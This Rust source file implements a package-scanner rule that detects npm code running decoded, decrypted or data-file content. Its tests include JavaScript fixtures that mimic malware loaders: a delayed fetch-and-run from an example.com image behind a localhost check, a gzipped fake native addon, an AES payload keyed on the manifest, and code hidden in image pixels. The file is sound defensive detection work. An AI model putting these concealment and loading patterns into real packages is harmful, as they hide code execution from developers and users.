//! `code/decode-exec`.

use super::{chain, describe, finding, flow_finding, flows, one_per_sink, per_signal};
use crate::CodeFinding;
use crate::flow::{SinkKind, SourceKind, flags};
use crate::signal::{Kind, PackageFacts};
use crate::verdict::Locality;
use diligence_finding::Severity;

diligence_finding::declare_rule! {
    /// Data decoded at run time (base64, hex, char codes, decipher) is executed with eval, Function, vm or module._compile.
    ///
    /// ## What it detects
    /// A value-flow path into `eval`, `Function`/`new Function`, `vm.run*`/`vm.Script`, `module._compile` or a
    /// module load from data decrypted at run time (`crypto.createDecipheriv`: critical — an encrypted payload,
    /// often in a data file keyed on the package's own name and version), decoded at run time (`atob`,
    /// `Buffer.from(…, 'base64'|'hex')`, char codes, inflate: high) or read from one of the package's data files:
    /// critical when the file is an image, a font or a binary blob (`.png`, `.woff`, `.bin`, `.dat` — code read
    /// from pixels; a native addon `.node` that the executing file gunzips or inflates: a script disguised as a
    /// prebuilt binary), high when the data is decoded on the way, medium otherwise. A binary file's name passed to a
    /// reading helper in another function counts too. Also such a call whose argument comes directly from a
    /// decoder in the same function. The `Function` constructor counts however it is reached
    /// (`Function.constructor`, `[].constructor.constructor`, `Object.getPrototypeOf(async function () {}).constructor`),
    /// and so does `_compile` on a fresh module object. Also, without a traced path: code evaluation of a computed
    /// string in a function that runs when a module loads (a timer or promise callback of load-time code), in a
    /// module (not a bundle) that compares the page's host with localhost or checks for a sandbox (high). An
    /// `import()` of a JavaScript `data:` URL in base64 (`import('data:text/javascript;base64,' + parts.join(''))`)
    /// is a decode followed by code evaluation too.
    ///
    /// ## Why it matters
    /// Every layered npm dropper ends in this chain (os-info-checker-es6, GlassWorm, the tz/locale payload-in-JSON
    /// samples); legitimate code compiles source it can read, not source it had to hide.
    ///
    /// ## Example
    /// `eval(Buffer.from(blob, 'base64').toString())`
    ///
    /// ## Known false positives
    /// Build tools that ship precompiled templates as base64 and compile them at run time. Reported as high
    /// (suspicious) unless the package also hides code, is obfuscated or networks in the same file. Template
    /// engines compiling their own text templates (`.txt`, `.html`, `.ejs`) stay medium at most. A development
    /// client that evaluates code only on localhost would match the load-time variant; hot-reload clients load
    /// modules through script tags or `import()`, not by evaluating strings at load. A computed `require` of a
    /// path ending in a constant `.json` name (`` require(`${outputDir}/package.json`) ``, `path.join(dir,
    /// 'package.json')`) parses JSON and runs nothing: not a sink (prisma's client generator). A package manifest
    /// (`package.json`) read from disk whose fields reach an `import()`, `require` or compiler undecoded is module
    /// resolution (vite's config and plugin loaders), not reported; decoded on the way, it is.
    pub static DECODE_EXEC = { id: "code/decode-exec", severity: Severity::High };
}

/// Paths from decrypted, decoded or package-data values into code.
fn paths(p: &PackageFacts) -> Vec<CodeFinding> {
    let corroborated = p.has(Kind::HiddenCode)
        || p.has(Kind::InvisibleUnicode)
        || p.has(Kind::StringArrayRotation);
    let sources = [
        SourceKind::Deciphered,
        SourceKind::Decoded,
        SourceKind::PackageData,
    ];
    let sinks = [SinkKind::Eval, SinkKind::Require];
    let out: Vec<CodeFinding> = flows(p, &sources, &sinks)
        .filter(|path| {
            !required_data_used_as_is(path)
                && !manifest_used_as_is(path)
                && !native_addon_as_is(p, path)
        })
        .take(20)
        .map(|path| {
            let sev = match path.source {
                SourceKind::Deciphered => Severity::Critical,
                SourceKind::Decoded if corroborated => Severity::Critical,
                // Decoded data run with Node's module loader in hand (`new Function('require',
                // …)`, a `vm` context carrying `require`): a hidden stage given the whole of
                // Node, which no template or code generator needs.
                SourceKind::Decoded if path.flags & flags::NODE_SCOPE != 0 => Severity::Critical,
                SourceKind::Decoded => Severity::High,
                // Code has no business in pixels, fonts or binary blobs.
                SourceKind::PackageData if binary_data_file(&path.from.what) => Severity::Critical,
                SourceKind::PackageData if decoded_on_the_way(path) => Severity::High,
                _ => Severity::Medium,
            };
            flow_finding(
                &DECODE_EXEC,
                sev,
                p,
                path,
                format!("{} is executed: {}", path.source.as_str(), describe(path)),
            )
        })
        .collect();
    one_per_sink(out)
}

/// Steps that undo an obfuscation (named by the flow builder): what a loader that runs what
/// it fetched as sent never does.
pub(super) const UNSCRAMBLING: &[&str] = &[
    "base64-decoded",
    "hex-decoded",
    "char codes",
    "decrypted",
    "xor",
    "reversed",
];

/// Decoding steps a value may pass on its way: [`UNSCRAMBLING`] plus plain decodings
/// (bytes, decompression, URL decoding).
const DECODING: &[&str] = &["bytes", "inflated", "url-decoded"];

/// True when the path's value was decoded on the way.
pub(crate) fn decoded_on_the_way(path: &crate::flow::FlowPath) -> bool {
    path.steps.iter().any(|s| {
        let what = s.what.as_str();
        UNSCRAMBLING.contains(&what) || DECODING.contains(&what)
    })
}

/// A read of an image, a font or a binary blob (`logo.png`, `assets/x.bin`): no source code
/// lives there.
fn binary_data_file(what: &str) -> bool {
    const EXT: &[&str] = &[
        ".png", ".jpg", ".jpeg", ".gif", ".ico", ".bmp", ".webp", ".woff", ".woff2", ".ttf",
        ".bin", ".dat", ".data", ".enc", ".wasm", ".db", ".node",
    ];
    let lower = what.trim_end_matches(['\'', ')']).to_ascii_lowercase();
    EXT.iter().any(|e| lower.ends_with(e))
}

/// A native addon (`.node`) read and passed on without a decompression or decoding step:
/// module loaders handle `.node` files by name. Code that *gunzips* or decodes an "addon" and
/// evaluates it is a script disguised as a binary.
fn native_addon_as_is(p: &PackageFacts, path: &crate::flow::FlowPath) -> bool {
    // A branch that decompresses (`buf[0] === 0x1f && buf[1] === 0x8b ? zlib.gunzipSync(buf)`)
    // may hide from the path the solver picked: the executing file's own decompression counts.
    // Searched last, only for a `.node` path not decoded on the way.
    let decompresses = || {
        p.file(&path.to.file)
            .and_then(|f| f.text.as_deref())
            .is_some_and(|t| {
                ["gunzip", "inflate", "brotliDecompress", "decompress"]
                    .iter()
                    .any(|d| t.contains(d))
            })
    };
    path.source == SourceKind::PackageData
        && path
            .from
            .what
            .trim_end_matches(['\'', ')', '"', '`'])
            .to_ascii_lowercase()
            .ends_with(".node")
        && !decoded_on_the_way(path)
        && !decompresses()
}

/// A data file loaded with `require` (parsed JSON: tables of names, templates) that reaches
/// code without being decoded or deciphered on the way: code generation, not a payload.
fn required_data_used_as_is(path: &crate::flow::FlowPath) -> bool {
    path.source == SourceKind::PackageData
        && path.from.what.starts_with("require(")
        && !decoded_on_the_way(path)
}

/// A package manifest (`package.json`) read from disk that reaches code without being decoded
/// or deciphered on the way: module resolution and config loaders read `main`, `exports` or
/// `type` from a manifest and load what it names (vite's config and plugin loading). A
/// payload hidden in a manifest field is encoded, and stays reported.
fn manifest_used_as_is(path: &crate::flow::FlowPath) -> bool {
    path.source == SourceKind::PackageData
        && path
            .from
            .what
            .trim_end_matches(['\'', ')', '"', '`'])
            .to_ascii_lowercase()
            .ends_with("package.json")
        && !decoded_on_the_way(path)
}

/// One finding per decode→exec site.
pub(crate) fn check(p: &PackageFacts) -> Vec<CodeFinding> {
    let traced = paths(p);
    let imported = super::at_load::imported(p);
    let mut out: Vec<CodeFinding> = decoded(p)
        .into_iter()
        .filter(|d| {
            !traced
                .iter()
                .any(|t| t.file == d.file && t.line == d.line && t.severity >= d.severity)
        })
        .collect();
    out.extend(per_signal(p, Kind::ComputedCode, |f, s| {
        // Code computed at run time next to a char-code/XOR decoder or a decipher in the same
        // function, or in a file with obfuscator fingerprints, or read from a data file.
        let near = |k: Kind| f.signals.iter().any(|o| o.kind == k && o.func == s.func);
        let obfuscated = f.has(Kind::StringArrayRotation) || f.has(Kind::HexIdentifiers);
        let why = if f.has(Kind::CharCodeDecoder) || near(Kind::Decipher) {
            "char-code/decipher output executed"
        } else if obfuscated {
            "computed code executed in obfuscated code"
        } else if near(Kind::DataFileRead) || near(Kind::ImageRead) {
            "a package data file read and executed"
        } else if f.has(Kind::SandboxGate)
            && f.reachable
            && s.func != 0
            && !super::is_bundle(f)
            && super::at_load::at_load(&imported, f, s)
        {
            // A library that, when it loads, runs code it computes (fetched, decoded from an
            // image, reversed), in a module that first checks whether it runs on localhost or
            // in a sandbox: code kept from the developer's own machine.
            "computed code executed at load in a module that checks for localhost or a sandbox"
        } else {
            return None;
        };
        if out_has(f, s) || traced.iter().any(|t| t.file == f.path && t.line == s.line) {
            return None;
        }
        let msg = format!("{why}: {}", s.detail);
        Some(finding(
            &DECODE_EXEC,
            DECODE_EXEC.default_severity,
            f,
            s,
            Locality::Function,
            msg,
            chain(
                p,
                f,
                s,
                &[Kind::CharCodeDecoder, Kind::Decipher, Kind::DataFileRead],
            ),
        ))
    }));
    let mut all = traced;
    all.append(&mut out);
    all
}

/// True when a decode→exec signal already covers this line.
fn out_has(f: &crate::signal::FileFacts, s: &crate::signal::Signal) -> bool {
    f.of(Kind::DecodeExec).any(|d| d.line == s.line)
}

fn decoded(p: &PackageFacts) -> Vec<CodeFinding> {
    let corroborated = p.has(Kind::HiddenCode)
        || p.has(Kind::InvisibleUnicode)
        || p.has(Kind::StringArrayRotation);
    per_signal(p, Kind::DecodeExec, |f, s| {
        let sev = if corroborated || f.has(Kind::Network) {
            Severity::Critical
        } else {
            DECODE_EXEC.default_severity
        };
        let msg = format!("run-time decoded data executed: {}", s.detail);
        Some(finding(
            &DECODE_EXEC,
            sev,
            f,
            s,
            Locality::Function,
            msg,
            chain(p, f, s, &[Kind::DynamicCode, Kind::HiddenCode]),
        ))
    })
}

#[cfg(test)]
mod load_gate_tests {
    use crate::rules::test_util::{PJ, hits, scan};

    /// A browser utility library that, two minutes after it loads and away from localhost,
    /// evaluates text decoded from a remote QR image.
    #[test]
    fn positive_code_run_at_load_behind_a_localhost_check() {
        let s = scan(&[
            ("package.json", PJ),
            (
                "index.js",
                "function rev(s) { return s.split('').reverse().join(''); }
function isDev() { var h = location.hostname; return h === 'localhost' || h === '127.0.0.1'; }
exports.rev = rev;
exports.read = function (src) { return fetch(src).then(function (r) { return r.text(); }); };
(function () {
  if (isDev()) return;
  setTimeout(function () {
    exports.read(rev('gnp.q/moc.elpmaxe//:sptth')).then(function (t) {
      new Function(rev(t))();
    });
  }, 120000);
})();
",
            ),
        ]);
        assert_eq!(
            hits(&s, "code/decode-exec"),
            vec![("index.js".to_string(), 9)]
        );
        assert_ne!(s.verdict, crate::Verdict::Clean);
    }

    /// A template helper compiling templates on request, and a dev banner printed on localhost.
    #[test]
    fn negative_template_compile_on_request() {
        let s = scan(&[
            ("package.json", PJ),
            (
                "index.js",
                "if (location.hostname === 'localhost') console.log('dev build');
exports.compile = function (tpl) { return new Function('it', 'return `' + tpl + '`;'); };
",
            ),
        ]);
        assert!(hits(&s, "code/decode-exec").is_empty(), "{:?}", s.findings);
    }
}

#[cfg(test)]
mod tests {
    use crate::rules::test_util::{PJ, hits, scan};

    /// A "fallback binding" `.node` file that is gzip bytes: gunzipped and run with `vm` when
    /// the real addon fails to load.
    #[test]
    fn positive_gzipped_fake_native_addon_evaluated() {
        let s = scan(&[
            ("package.json", PJ),
            (
                "index.js",
                "const fs = require('fs');\nconst path = require('path');\nconst vm = require('vm');\nconst zlib = require('zlib');\nfunction load() {\n  try { return require(path.join(__dirname, 'build', 'addon_' + process.arch + '.node')); } catch (e) {\n    const buf = fs.readFileSync(path.join(__dirname, 'build', 'fallback.node'));\n    const code = buf[0] === 0x1f ? zlib.gunzipSync(buf).toString() : buf.toString();\n    return vm.runInThisContext('(function(module){' + code + '})');\n  }\n}\nmodule.exports = load();\n",
            ),
        ]);
        assert_eq!(
            hits(&s, "code/decode-exec"),
            vec![("index.js".to_string(), 9)]
        );
        assert_eq!(s.verdict, crate::Verdict::Malicious);
    }

    /// A module loader that handles `.node` files by name and compiles `.js` sources.
    #[test]
    fn negative_loader_handles_native_addons_by_name() {
        let s = scan(&[
            ("package.json", PJ),
            (
                "index.js",
                "const fs = require('fs');\nconst vm = require('vm');\nexports.load = function (file) {\n  if (file.endsWith('.node')) return require(file);\n  const src = fs.readFileSync(file, 'utf8');\n  return vm.runInThisContext(src, { filename: file });\n};\nexports.addon = () => exports.load(__dirname + '/build/Release/binding.node');\n",
            ),
        ]);
        assert!(hits(&s, "code/decode-exec").is_empty(), "{:?}", s.findings);
    }

    /// A required JSON file whose entries are hex-decoded and compiled: a hidden payload.
    #[test]
    fn positive_required_data_file_decoded_and_compiled() {
        let s = scan(&[
            ("package.json", PJ),
            ("data/table.json", "[\"636f6e736f6c652e6c6f67283129\"]"),
            (
                "a.js",
                "const t = require('./data/table.json');\nconst code = Buffer.from(t[0], 'hex').toString();\nnew Function(code)();\n",
            ),
        ]);
        let h = hits(&s, "code/decode-exec");
        assert!(
            !h.is_empty() && h.iter().all(|x| *x == ("a.js".to_string(), 3)),
            "{h:?}"
        );
    }

    /// Code generated from a required JSON table of names (jsdom's globals): not a payload.
    #[test]
    fn negative_code_generated_from_a_required_table() {
        let s = scan(&[
            ("package.json", PJ),
            ("generated/globals.json", "{\"Array\":{},\"Object\":{}}"),
            (
                "a.js",
                "const vm = require('vm');\nconst globals = require('./generated/globals.json');\nfunction install(ctx) {\n  for (const name of Object.keys(globals)) {\n    vm.runInContext(`this.${name} = ${name};`, ctx);\n  }\n}\nmodule.exports = install;\n",
            ),
        ]);
        assert!(hits(&s, "code/decode-exec").is_empty());
    }

    /// A module imported from a base64 `data:` URL assembled from array parts: decoded, then
    /// run, with no eval/Function/vm in sight.
    #[test]
    fn positive_import_of_a_base64_data_url() {
        let s = scan(&[
            ("package.json", PJ),
            (
                "index.mjs",
                "const parts = ['Y29uc29sZS5s', 'b2coMSk='];\nexport async function load() {\n  return import('data:text/javascript;base64,' + parts.join(''));\n}\n",
            ),
        ]);
        assert_eq!(
            hits(&s, "code/decode-exec"),
            vec![("index.mjs".to_string(), 3)]
        );
    }

    /// Dynamic imports of files and of a JSON data URL evaluate no code.
    #[test]
    fn negative_import_of_a_path_or_json_data_url() {
        let s = scan(&[
            ("package.json", PJ),
            (
                "index.mjs",
                "export const locale = (l) => import('./locales/' + l + '.js');\nexport const cfg = () => import('data:application/json;base64,e30=', { with: { type: 'json' } });\n",
            ),
        ]);
        assert!(hits(&s, "code/decode-exec").is_empty());
    }

    #[test]
    fn positive() {
        let s = scan(&[
            ("package.json", PJ),
            (
                "a.js",
                "const b = 'Y29uc29sZS5sb2coMSk=';\nconst src = Buffer.from(b, 'base64').toString('utf8');\nnew Function('require', src)(require);\n",
            ),
        ]);
        assert_eq!(hits(&s, "code/decode-exec"), vec![("a.js".to_string(), 3)]);
    }

    /// An AES payload in a data file, keyed on the package's own name and version.
    #[test]
    fn positive_encrypted_data_file_keyed_on_the_manifest() {
        let s = scan(&[
            ("package.json", PJ),
            (
                "lib/init.js",
                "const crypto = require('crypto');\nconst fs = require('fs');\nconst path = require('path');\nconst pkg = require('../package.json');\nfunction load() {\n  const key = crypto.createHash('sha256').update(pkg.name + pkg.version).digest();\n  const raw = fs.readFileSync(path.join(__dirname, '..', 'assets', 'fonts.dat'));\n  const d = crypto.createDecipheriv('aes-256-cbc', key, raw.subarray(0, 16));\n  const code = Buffer.concat([d.update(raw.subarray(16)), d.final()]).toString('utf8');\n  return new Function('require', code)(require);\n}\nmodule.exports = load();\n",
            ),
        ]);
        let f = crate::rules::test_util::finding(&s, "code/decode-exec");
        assert_eq!(
            (f.line, f.severity),
            (10, diligence_finding::Severity::Critical)
        );
        assert_eq!(s.verdict, crate::Verdict::Malicious);
    }

    /// A template engine compiles a template it read from its own folder: medium at most.
    #[test]
    fn negative_template_engine_compiles_a_bundled_template() {
        let s = scan(&[
            ("package.json", PJ),
            (
                "lib/render.js",
                "const fs = require('fs');\nconst path = require('path');\nconst src = fs.readFileSync(path.join(__dirname, 'layout.txt'), 'utf8');\nconst body = 'return `' + src.replace(/`/g, '\\\\`') + '`;';\nmodule.exports = new Function('data', body);\n",
            ),
        ]);
        assert_eq!(s.verdict, crate::Verdict::Clean, "{:?}", s.findings);
    }

    #[test]
    fn negative_constant_function() {
        let s = scan(&[
            ("package.json", PJ),
            (
                "a.js",
                "var g = Function('return this')();\nmodule.exports = g;\n",
            ),
        ]);
        assert!(hits(&s, "code/decode-exec").is_empty());
    }

    #[test]
    fn positive_xor_char_codes() {
        let s = scan(&[
            ("package.json", PJ),
            (
                "x.js",
                "function run(a, k) {\n  const src = a.map((c) => String.fromCharCode(c ^ k)).join('');\n  return eval(src);\n}\nmodule.exports = run;\n",
            ),
        ]);
        assert_eq!(hits(&s, "code/decode-exec"), vec![("x.js".to_string(), 3)]);
    }

    #[test]
    fn positive_data_file_evaluated() {
        let s = scan(&[
            ("package.json", PJ),
            (
                "x.js",
                "const fs = require('fs');\nfunction load() {\n  const t = fs.readFileSync(__dirname + '/notes.md', 'utf8');\n  return new Function(t.split('<!--')[1])();\n}\n",
            ),
        ]);
        assert_eq!(hits(&s, "code/decode-exec"), vec![("x.js".to_string(), 4)]);
    }

    /// A loader whose names sit hex-encoded in a sibling data module: the decipher keyed on
    /// `npm_package_*` and the `_compile` of a fresh module are seen once the table folds in.
    #[test]
    fn positive_loader_with_names_in_a_data_module() {
        let s = scan(&[
            ("package.json", PJ),
            (
                "lib/table.js",
                "module.exports = ['63727970746f', '63726561746544656369706865726976', '5f636f6d70696c65', '6e706d5f7061636b6167655f6465736372697074696f6e', '686578', '75746638'];\n",
            ),
            (
                "index.js",
                "!function () {\n  try {\n    var t = require('./lib/table'), h = (x) => Buffer.from(x, 'hex').toString();\n    var key = process.env[h(t[3])];\n    var d = require(h(t[0]))[h(t[1])]('aes-256-cbc', key, Buffer.alloc(16));\n    var code = d.update(process.argv[2], h(t[4]), h(t[5])) + d.final(h(t[5]));\n    var m = new module.constructor();\n    m[h(t[2])](code, '');\n  } catch (e) {}\n}();\n",
            ),
        ]);
        let f = crate::rules::test_util::finding(&s, "code/decode-exec");
        assert_eq!(
            (f.file.as_str(), f.line, f.severity),
            ("index.js", 8, diligence_finding::Severity::Critical)
        );
        assert_eq!(s.verdict, crate::Verdict::Malicious);
    }

    /// Code read from an image's pixels in one function and compiled in another.
    #[test]
    fn positive_image_pixels_compiled() {
        let s = scan(&[
            ("package.json", PJ),
            (
                "lib/banner.js",
                "const fs = require('fs');\nconst path = require('path');\nfunction pixels(file) {\n  const buf = fs.readFileSync(file);\n  const out = Buffer.alloc(buf.length);\n  buf.copy(out, 0, 64);\n  return out;\n}\nfunction text() {\n  const px = pixels(path.join(__dirname, '..', 'img', 'logo.png'));\n  return px.subarray(4, 4 + px.readUInt32BE(0)).toString();\n}\nmodule.exports = () => new Function('require', text())(require);\n",
            ),
        ]);
        let f = crate::rules::test_util::finding(&s, "code/decode-exec");
        assert_eq!(
            (f.line, f.severity),
            (13, diligence_finding::Severity::Critical)
        );
    }

    /// An image read for its bytes (a thumbnailer) and a string table module used as labels:
    /// no code is compiled from them.
    #[test]
    fn negative_image_and_table_used_as_data() {
        let s = scan(&[
            ("package.json", PJ),
            (
                "lib/labels.js",
                "module.exports = ['Open', 'Save', 'Close'];\n",
            ),
            (
                "index.js",
                "const fs = require('fs');\nconst labels = require('./lib/labels');\nconst img = fs.readFileSync(__dirname + '/icon.png');\nmodule.exports = { labels, icon: 'data:image/png;base64,' + img.toString('base64'), menu: new Function('l', 'return l.join(\"|\")')(labels) };\n",
            ),
        ]);
        assert!(hits(&s, "code/decode-exec").is_empty(), "{:?}", s.findings);
        assert_eq!(s.verdict, crate::Verdict::Clean);
    }

    const OUT_DIR: &str = "const fs = require('fs');\nconst path = require('path');\nconst outputDir = path.resolve(fs.readFileSync(path.join(__dirname, 'output.txt'), 'utf8').trim());\nexports.clean = async () => {\n  if (require(`${outputDir}/package.json`).name.startsWith('.gen')) await fs.promises.rm(outputDir, { recursive: true });\n};\n";

    /// A client generator (prisma's `deleteOutputDir`) checks the generated folder's
    /// `package.json` by requiring `${outputDir}/package.json` before deleting it; the folder
    /// comes from package data. A `.json` module is parsed, nothing runs.
    #[test]
    fn negative_computed_require_of_a_package_json() {
        let files = [
            ("package.json", PJ),
            ("output.txt", "generated/client\n"),
            ("index.js", OUT_DIR),
        ];
        let s = scan(&files);
        assert!(hits(&s, "code/decode-exec").is_empty(), "{:?}", s.findings);
        let joined = OUT_DIR.replace(
            "require(`${outputDir}/package.json`)",
            "require(path.join(outputDir, 'package.json'))",
        );
        let s = scan(&[files[0], files[1], ("index.js", &joined)]);
        assert!(hits(&s, "code/decode-exec").is_empty(), "{:?}", s.findings);
    }

    /// Its twin: the same folder's `index.js` is required (run).
    #[test]
    fn positive_computed_require_of_a_script_from_package_data() {
        let js = OUT_DIR.replace("/package.json", "/index.js");
        let s = scan(&[
            ("package.json", PJ),
            ("output.txt", "generated/client\n"),
            ("index.js", &js),
        ]);
        assert_eq!(
            hits(&s, "code/decode-exec"),
            vec![("index.js".to_string(), 5)]
        );
    }

    const LOADER: &str = "const fs = require('fs');\nconst path = require('path');\nexports.loadPlugin = async (dir) => {\n  const pkg = JSON.parse(fs.readFileSync(path.join(dir, 'package.json'), 'utf8'));\n  const entry = path.join(dir, pkg.module || pkg.main || 'index.js');\n  return import(entry);\n};\n";

    /// A config or plugin loader (vite) reads a package's manifest and imports the entry it
    /// names: module resolution, not package data run as code.
    #[test]
    fn negative_manifest_entry_imported() {
        let s = scan(&[("package.json", PJ), ("index.js", LOADER)]);
        assert!(hits(&s, "code/decode-exec").is_empty(), "{:?}", s.findings);
    }

    /// Its twin: a base64 manifest field decoded and compiled.
    #[test]
    fn positive_manifest_field_decoded_and_run() {
        let js = LOADER.replace(
            "  return import(entry);\n",
            "  return new Function(Buffer.from(pkg.config.k, 'base64').toString())();\n",
        );
        let s = scan(&[("package.json", PJ), ("index.js", &js)]);
        assert_eq!(
            hits(&s, "code/decode-exec"),
            vec![("index.js".to_string(), 6)]
        );
    }
}
